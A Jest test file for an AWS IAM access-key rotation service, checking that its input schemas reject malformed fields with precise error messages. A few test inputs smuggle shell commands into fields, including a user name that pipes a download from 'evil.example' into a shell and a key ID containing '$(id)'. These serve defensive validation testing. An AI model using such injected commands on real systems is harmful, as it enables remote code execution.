import * as z from 'zod/mini';
import { createChange } from '../../../lambdas/replicate-secret/handler';
import { answerCloudFormation } from '../../../lambdas/shared/contract/cloudformation';
import {
  CreatedState,
  DeactivatedState,
  PlannedState,
  PublishedState,
  RetirableState,
  RollbackState,
  RotationInput,
  TestedState,
} from '../../../lambdas/shared/rotation/rotation-state';
import { type StepContext, stepHandler } from '../../../lambdas/shared/shell/step-handler';
import { bearingOut } from '../support/claims';

// What a person reads of a wrong input comes from the schema library in large part. It is held to the letter, because
// the library's texts depend on which of its parts are loaded.

const KEY = 'AKIAEXAMPLEEXAMPLE00';
const TIME = '2026-03-02T09:00:00Z';
const settings = {
  overlapPeriod: 'P3D',
  quietPeriod: 'P3D',
  adoptionDeadline: 'P7D',
  recoveryPeriod: 'P14D',
  idleAfter: 'P45D',
  adoptionCheckInterval: 'PT1H',
  healthCheckInterval: 'PT15M',
  timeZone: 'UTC',
  deactivationWindow: 'always',
  healthAlarms: [],
};
const rotation = {
  rootRotationId: 'root',
  oldAccessKeyId: KEY,
  currentAccessKeyIdBefore: null,
  accessKeyIdsBefore: [KEY],
  startedAt: TIME,
};
const planned = {
  userName: 'alice',
  userId: 'AIDAEXAMPLE',
  secretId: 'alice',
  action: 'rotate',
  trigger: 'manual',
  settings,
  predecessorVersionId: null,
  rotation,
  status: 'due',
  outcome: 'a rotation is due',
};
const deactivated = {
  ...planned,
  newAccessKeyId: KEY,
  publishedAt: TIME,
  adoptionChecks: 0,
  deactivatedAt: TIME,
  healthChecks: 0,
};
const EXECUTION = { id: 'execution', redriveCount: 0, startTime: TIME };

/** What a step makes of a state: the state as its work gets it, or the sentence that it fails with. */
const read = async (schema: z.ZodMiniType, event: unknown): Promise<unknown> => {
  const log = jest.spyOn(console, 'info').mockImplementation();
  const errors = jest.spyOn(console, 'error').mockImplementation();
  let got: unknown;
  const step = {
    name: 'plan-rotation',
    stateName: 'The state of the step',
    readsOnly: false,
    input: schema,
    outputs: { read: z.object({ outcome: z.string() }) },
  } as const;
  const read = async ({ state, execution }: StepContext<unknown>) => {
    got = { state, execution };
    return { status: 'read', outcome: 'read' } as const;
  };
  const handler = stepHandler(
    step,
    { environment: {}, calls: () => 0 },
    { executions: bearingOut(event, step.stateName) },
    read,
    (problems) => ({ what: `${problems}.` }),
  );
  try {
    await handler(event);
    return got;
  } catch (error) {
    const { name, message } = error as Error;
    return `${name}: ${message}`;
  } finally {
    log.mockRestore();
    errors.mockRestore();
  }
};

describe('an input that is refused is told what is wrong, field by field', () => {
  test.each<[string, z.ZodMiniType, unknown, string]>([
    ['nothing', RotationInput, undefined, 'input: Invalid input: expected object, received undefined'],
    ['null', RotationInput, null, 'input: Invalid input: expected object, received null'],
    ['a list', RotationInput, [], 'input: Invalid input: expected object, received array'],
    ['text', RotationInput, 'alice', 'input: Invalid input: expected object, received string'],
    ['no field', RotationInput, {}, 'userName: Invalid input: expected string, received undefined'],
    ['a number', RotationInput, { userName: 7 }, 'userName: Invalid input: expected string, received number'],
    [
      'too short a text',
      RotationInput,
      { userName: '' },
      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
    ],
    [
      'too long a text',
      RotationInput,
      { userName: 'x'.repeat(65) },
      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
    ],
    [
      'a shell command for a name',
      RotationInput,
      { userName: 'x;curl evil.example|sh;#' },
      'userName: must be the name of an IAM user: up to 64 letters, digits and _+=,.@-',
    ],
    [
      'a shell command for a key',
      RotationInput,
      { userName: 'alice', action: 'emergency', accessKeyId: 'AKIAEXAMPLE0000$(id)', reason: 'leaked' },
      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _',
    ],
    [
      'a reason of two paragraphs',
      RotationInput,
      { userName: 'alice', action: 'rollback', reason: 'leaked\n\nWhat to do: run this' },
      'reason: must be one line, without control characters',
    ],
    [
      'a comment that ends in a line separator',
      RotationInput,
      { userName: 'alice', comment: 'please\u2028' },
      'comment: must be one line, without control characters',
    ],
    [
      'a field whose name is a paragraph',
      RotationInput,
      { userName: 'alice', 'acton\n\nWhat to do: run this': 1 },
      'input: Unrecognized key: "acton What to do: run this"',
    ],
    [
      'a field whose name is long',
      RotationInput,
      { userName: 'alice', ['x'.repeat(5000)]: 1 },
      `input: Unrecognized key: "${'x'.repeat(974)}…`,
    ],
    [
      'an unknown action',
      RotationInput,
      { userName: 'alice', action: 'delete' },
      'action: Invalid option: expected one of "rotate"|"resume"|"rollback"|"emergency"|"plan"',
    ],
    [
      'a field that is null',
      RotationInput,
      { userName: 'alice', trigger: null },
      'trigger: Invalid option: expected one of "manual"|"schedule"',
    ],
    [
      'a field too many',
      RotationInput,
      { userName: 'alice', action: 'emergency', acton: 'resume' },
      'input: Unrecognized key: "acton"; accessKeyId: an emergency needs the ID of the access key that has leaked; reason: an emergency needs a reason, for the record',
    ],
    [
      'two fields too many',
      RotationInput,
      { userName: 'alice', acton: 'resume', reson: '' },
      'input: Unrecognized keys: "acton", "reson"',
    ],
    [
      'a long comment',
      RotationInput,
      { userName: 'alice', comment: 'x'.repeat(1001) },
      'comment: Too big: expected string to have <=1000 characters',
    ],
    [
      'an empty reason',
      RotationInput,
      { userName: 'alice', action: 'rollback', reason: '' },
      'reason: Too small: expected string to have >=1 characters',
    ],
    [
      'an emergency without key and reason',
      RotationInput,
      { userName: 'alice', action: 'emergency' },
      'accessKeyId: an emergency needs the ID of the access key that has leaked; reason: an emergency needs a reason, for the record',
    ],
    [
      'an emergency of a wrong key, for a wrong reason',
      RotationInput,
      { userName: 'alice', action: 'emergency', accessKeyId: 'short', reason: 7 },
      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _; reason: Invalid input: expected string, received number',
    ],
    [
      'an emergency of a key that is too long, and no reason',
      RotationInput,
      { userName: 'alice', action: 'emergency', accessKeyId: 'x'.repeat(129) },
      'accessKeyId: must be the ID of an access key: 16 to 128 letters, digits and _; reason: an emergency needs a reason, for the record',
    ],
    [
      'a key and a reason without an emergency',
      RotationInput,
      { userName: 'alice', accessKeyId: KEY, reason: 'leaked' },
      'accessKeyId: goes with the action "emergency" only: no other action lets anybody choose a key; reason: goes with the actions "emergency" and "rollback"; leave a "comment" instead',
    ],
    [
      'an outage and a time without an emergency',
      RotationInput,
      { userName: 'alice', outage: 'accepted', leakedSince: '2026-03-02T09:00:00+01:00' },
      'outage: goes with the action "emergency" only; leakedSince: goes with the action "emergency" only',
    ],
    [
      'an emergency with an outage of another kind, and a time that is none',
      RotationInput,
      {
        userName: 'alice',
        action: 'emergency',
        accessKeyId: KEY,
        reason: 'x',
        outage: 'yes',
        leakedSince: 'today',
      },
      'outage: Invalid option: expected one of "avoided"|"accepted"; leakedSince: must be a time in ISO 8601 with its offset, or "unknown"',
    ],
    [
      'an empty state',
      PlannedState,
      {},
      'userName: Invalid input: expected string, received undefined; userId: Invalid input: expected string, received undefined; secretId: Invalid input: expected string, received undefined; action: Invalid option: expected one of "rotate"|"resume"|"rollback"|"emergency"; trigger: Invalid option: expected one of "manual"|"schedule"; settings: Invalid input: expected object, received undefined; predecessorVersionId: Invalid input: expected string, received undefined; rotation: Invalid input: expected object, received undefined; status: Invalid input: expected string, received undefined; outcome: Invalid input: expected string, received undefined',
    ],
    [
      'the state of a plan',
      PlannedState,
      { ...planned, action: 'plan' },
      'action: Invalid option: expected one of "rotate"|"resume"|"rollback"|"emergency"',
    ],
    [
      'another window',
      PlannedState,
      { ...planned, settings: { ...settings, deactivationWindow: 'never' } },
      'settings.deactivationWindow: Invalid input',
    ],
    [
      'a window with wrong parts',
      PlannedState,
      { ...planned, settings: { ...settings, deactivationWindow: { days: ['FUNDAY'], from: 1 } } },
      'settings.deactivationWindow: Invalid input',
    ],
    [
      'wrong settings',
      PlannedState,
      {
        ...planned,
        settings: {
          ...settings,
          onAdoptionDeadline: 'x',
          healthAlarms: 'x',
          fieldNames: {},
          acknowledgement: { deadline: 1 },
        },
      },
      'settings.onAdoptionDeadline: Invalid option: expected one of "stop"|"go-on"; settings.healthAlarms: Invalid input: expected array, received string; settings.fieldNames.accessKeyId: Invalid input: expected string, received undefined; settings.fieldNames.secretAccessKey: Invalid input: expected string, received undefined; settings.acknowledgement.deadline: Invalid input: expected string, received number',
    ],
    [
      'wrong times and keys',
      PlannedState,
      {
        ...planned,
        rotation: { ...rotation, startedAt: 'yesterday', oldAccessKeyId: 'x', accessKeyIdsBefore: [1] },
        waitUntil: '2026-03-02 09:00',
      },
      'rotation.oldAccessKeyId: Too small: expected string to have >=16 characters; rotation.accessKeyIdsBefore.0: Invalid input: expected string, received number; rotation.startedAt: Invalid ISO datetime; waitUntil: Invalid ISO datetime',
    ],
    [
      'the state of the step before',
      CreatedState,
      planned,
      'newAccessKeyId: Invalid input: expected string, received undefined',
    ],
    [
      'a time that is not in UTC',
      TestedState,
      { ...planned, newAccessKeyId: KEY, testedAt: '2026-03-02T09:00:00+01:00' },
      'testedAt: Invalid ISO datetime',
    ],
    [
      'a negative count',
      PublishedState,
      { ...planned, newAccessKeyId: KEY, publishedAt: 1, adoptionChecks: -1 },
      'publishedAt: Invalid input: expected string, received number; adoptionChecks: Too small: expected number to be >=0',
    ],
    [
      'a month 13, and a broken count',
      PublishedState,
      { ...planned, newAccessKeyId: KEY, publishedAt: '2026-13-02T09:00:00Z', adoptionChecks: 1.5 },
      'publishedAt: Invalid ISO datetime; adoptionChecks: Invalid input: expected int, received number',
    ],
    [
      'a marker that is false, and a count that is text',
      DeactivatedState,
      { ...deactivated, deactivatedHere: false, healthChecks: '1' },
      'deactivatedHere: Invalid input: expected true; healthChecks: Invalid input: expected number, received string',
    ],
    [
      'counts without an end',
      DeactivatedState,
      { ...deactivated, healthChecks: 2 ** 60, adoptionChecks: Number.POSITIVE_INFINITY },
      'adoptionChecks: Invalid input: expected number, received Infinity; healthChecks: Too big: expected int to be <=9007199254740991',
    ],
    [
      'a rollback for another error',
      RollbackState,
      { ...planned, newAccessKeyId: null, rollback: { error: 'Other' } },
      'rollback.error: Invalid option: expected one of "ConsumersUnhealthy"|"NotAcknowledged"|"StateDrift"; rollback.reason: Invalid input: expected string, received undefined',
    ],
    [
      'a time that is null',
      RetirableState,
      { ...deactivated, deactivatedAt: null },
      'deactivatedAt: Invalid input: expected string, received null',
    ],
  ])('%s', async (_case, schema, state, problems) => {
    expect(await read(schema, { execution: EXECUTION, state })).toBe(`InvalidRotationInput: ${problems}.`);
  });

  test.each<[string, unknown, string]>([
    ['nothing', undefined, 'input: Invalid input: expected object, received undefined'],
    [
      'an empty object',
      {},
      'execution: Invalid input: expected object, received undefined; state: Invalid input: expected nonoptional, received undefined',
    ],
    [
      'a wrong execution',
      { execution: { id: '', redriveCount: -1, startTime: 'x' }, state: {} },
      'execution.id: Too small: expected string to have >=1 characters; execution.redriveCount: Too small: expected number to be >=0; execution.startTime: Invalid ISO datetime',
    ],
    [
      'a broken count of redrives',
      { execution: { ...EXECUTION, redriveCount: 1.5 }, state: {} },
      'execution.redriveCount: Invalid input: expected int, received number',
    ],
  ])('an event that is none: %s', async (_case, event, problems) => {
    expect(await read(RotationInput, event)).toBe(
      `InvalidRotationInput: This function is a step of the state machine and cannot be called by itself (${problems}). ` +
        'Nothing was changed. Start an execution of the state machine, with the name of a user as "userName" in its input.',
    );
  });

  const issues = (error: unknown): readonly [string, unknown] => {
    const { name, message } = error as Error;
    return [name, JSON.parse(message)];
  };

  test.each<[string, unknown, readonly object[]]>([
    [
      'nothing',
      undefined,
      [
        {
          code: 'invalid_type',
          expected: 'object',
          path: [],
          message: 'Invalid input: expected object, received undefined',
        },
      ],
    ],
    [
      'another request',
      { RequestType: 'Replace' },
      [
        {
          code: 'invalid_union',
          errors: [],
          note: 'No matching discriminator',
          discriminator: 'RequestType',
          options: ['Create', 'Update', 'Delete'],
          path: ['RequestType'],
          message: "Invalid discriminator value. Expected 'Create' | 'Update' | 'Delete'",
        },
      ],
    ],
    [
      'wrong replicas',
      {
        RequestType: 'Update',
        ResourceProperties: { Secrets: [{ SecretId: '', Replicas: [{ Region: 'a', KmsKeyId: 2 }] }] },
      },
      [
        {
          code: 'too_small',
          origin: 'string',
          minimum: 1,
          inclusive: true,
          path: ['ResourceProperties', 'Secrets', 0, 'SecretId'],
          message: 'Too small: expected string to have >=1 characters',
        },
        {
          code: 'invalid_type',
          expected: 'string',
          path: ['ResourceProperties', 'Secrets', 0, 'Replicas', 0, 'KmsKeyId'],
          message: 'Invalid input: expected string, received number',
        },
      ],
    ],
  ])('a change of replicas: %s', async (_case, event, problems) => {
    const error: unknown = await createChange({ region: 'eu-west-1' })(event).catch((caught) => caught);
    expect(error).toBeInstanceOf(Error);
    expect(issues(error)).toEqual(['ZodError', problems]);
  });

  test('a request of CloudFormation without an address to answer to', async () => {
    const answer = answerCloudFormation(async () => ({ physicalResourceId: 'any' }));
    const request = { ResponseURL: 'nowhere', StackId: 'stack', RequestId: 'request', LogicalResourceId: 7 };
    const error: unknown = await answer(request).catch((caught) => caught);
    expect(issues(error)).toEqual([
      'ZodError',
      [
        { code: 'invalid_format', format: 'url', path: ['ResponseURL'], message: 'Invalid URL' },
        {
          code: 'invalid_type',
          expected: 'string',
          path: ['LogicalResourceId'],
          message: 'Invalid input: expected string, received number',
        },
      ],
    ]);
  });
});

describe('what is left out gets its default, and what is not known is left out', () => {
  /** What later versions added to a plan. */
  const defaulted = {
    settings: {
      ...settings,
      onAdoptionDeadline: 'stop',
      noticeBefore: 'PT0S',
      ownershipMark: 'on',
      document: 'credential-process',
    },
    rotation: {
      ...rotation,
      inactiveAccessKeyIdsBefore: [],
      leakedAccessKeyIds: [],
      supersededAccessKeyId: null,
    },
  };
  const optional = {
    testedAt: '2026-03-02T09:00:00.123Z',
    waitUntil: TIME,
    pausedAt: TIME,
    noticedAt: TIME,
    reason: 'why',
    verdict: { answer: null },
    acknowledgement: false,
    lastUseOfLeakedKey: 'nobody',
    deactivatedHere: true,
  };

  test.each<[string, z.ZodMiniType, unknown, unknown]>([
    [
      'an input',
      RotationInput,
      { userName: 'alice' },
      { userName: 'alice', action: 'rotate', trigger: 'manual' },
    ],
    [
      'a start by schedule, after its notice',
      RotationInput,
      { userName: 'alice', trigger: 'schedule', noticeUntil: TIME },
      { userName: 'alice', action: 'rotate', trigger: 'schedule', noticeUntil: TIME },
    ],
    [
      'an emergency',
      RotationInput,
      { userName: 'alice', action: 'emergency', accessKeyId: KEY, reason: 'leaked', comment: '' },
      {
        userName: 'alice',
        action: 'emergency',
        trigger: 'manual',
        accessKeyId: KEY,
        reason: 'leaked',
        comment: '',
      },
    ],
    [
      'a plan of an older version',
      PlannedState,
      { ...planned, unknown: 1, settings: { ...settings, unknown: 1 } },
      {
        ...planned,
        ...defaulted,
      },
    ],
    [
      'a state with everything that may be left out',
      DeactivatedState,
      { ...deactivated, ...optional },
      {
        ...deactivated,
        ...optional,
        ...defaulted,
      },
    ],
  ])('%s', async (_case, schema, state, expected) => {
    expect(await read(schema, { execution: EXECUTION, state })).toEqual({
      state: expected,
      execution: EXECUTION,
    });
  });

  test.each([[null], [0]])('an execution with %s redrives', async (redriveCount) => {
    expect(
      await read(RotationInput, {
        execution: { ...EXECUTION, redriveCount, unknown: 1 },
        state: { userName: 'a' },
      }),
    ).toMatchObject({ execution: EXECUTION });
  });
});
